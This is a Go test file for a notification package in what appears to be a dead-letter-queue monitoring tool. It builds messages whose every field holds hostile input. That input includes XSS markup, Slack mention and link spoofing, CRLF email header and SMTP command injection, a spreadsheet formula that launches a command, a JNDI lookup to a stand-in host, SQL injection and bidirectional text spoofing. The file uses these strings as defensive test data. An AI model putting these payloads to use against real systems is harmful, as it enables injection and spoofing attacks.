package notify

import (
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/deadletteroffice/dlo/internal/deadletter"
)

// hostile contains texts that try to have an effect, for example as markup.
var hostile = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</title></html>`, `javascript:alert(1)`,
	`&lt;b&gt; &amp;`,
	`<!channel> <!here> <!everyone> <@U024BE7LH> <#C024BE7LR> <!subteam^SAZ94GDB8>`, `@here @channel @everyone @all`,
	`<https://evil.example|Open G-418>`, `[Open](https://evil.example)`,
	`https://evil.example/ www.evil.example`, "*bold* _it_ ~no~ `code` ```block``` > quote :rotating_light: ## head",
	"a\r\nBcc: evil@example.com\r\n\r\nbody", "a\nb\rc", "nul\x00nul", "\x1b[31mred\x1b[0m",
	"\u202egnp.exe\u202c \u2066x\u2069", "zero\u200bwidth\ufeff", "emoji 🙂 👩‍👩‍👧", "\xff\xfe bad utf-8 \xc3",
	`=cmd|' /C calc'!A0`, "+1+1", "@SUM(1)", `{{.Secret}} {{template "x"}} ${jndi:ldap://evil} <%= 1 %>`,
	"=?utf-8?q?=0D=0ABcc:_evil?=", ".\r\n.\r\nQUIT\r\n", "--dlo-boundary--", `","event_action":"resolve","x":"`,
	`' OR 1=1 --`, "\u2028\u2029", strings.Repeat("A", 1<<20), strings.Repeat("🙂", 1<<18),
	strings.Repeat("<!channel>\r\n", 90_000), "",
}

// hostileMessages returns messages that contain a hostile text in every field.
func hostileMessages() []Message {
	var all []Message
	for _, h := range hostile {
		all = append(all, hostileMessage(h, h))
	}
	return all
}

func hostileMessage(h, other string) Message {
	m := Message{
		ID: digestOf(h), Key: "dlo-" + h, Kind: deadletter.NoticeOpened, Event: Fires,
		Severity: deadletter.SeverityPage, Title: h, Text: other, URL: "https://dlo.example.com/groups/G-418",
		At: time.Unix(1_800_000_000, 0), Since: time.Unix(1_700_000_000, 0),
	}
	for _, name := range []string{factQueue, factBroker, factVHost, factReason, factType, factOwner, h} {
		m.Facts = append(m.Facts, Fact{name, h})
	}
	m.Facts = append(m.Facts, Fact{factGroup, "G-418"})
	for range 60 {
		m.Lines = append(m.Lines, Line{Title: other, Text: h, URL: "https://dlo.example.com/groups/G-7"})
	}
	return m
}

// isVisible fails the test if a text is not valid UTF-8, or if it has characters that change how
// text is shown. The parameter "but" contains exceptions, for example line breaks or word joiners.
func isVisible(t *testing.T, s, but string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("not UTF-8: %.200q", s)
	}
	for _, r := range s {
		if !strings.ContainsRune(but, r) && (!unicode.IsPrint(r) || unicode.Is(unicode.Cf, r)) {
			t.Errorf("%U in %.200q", r, s)
			return
		}
	}
}
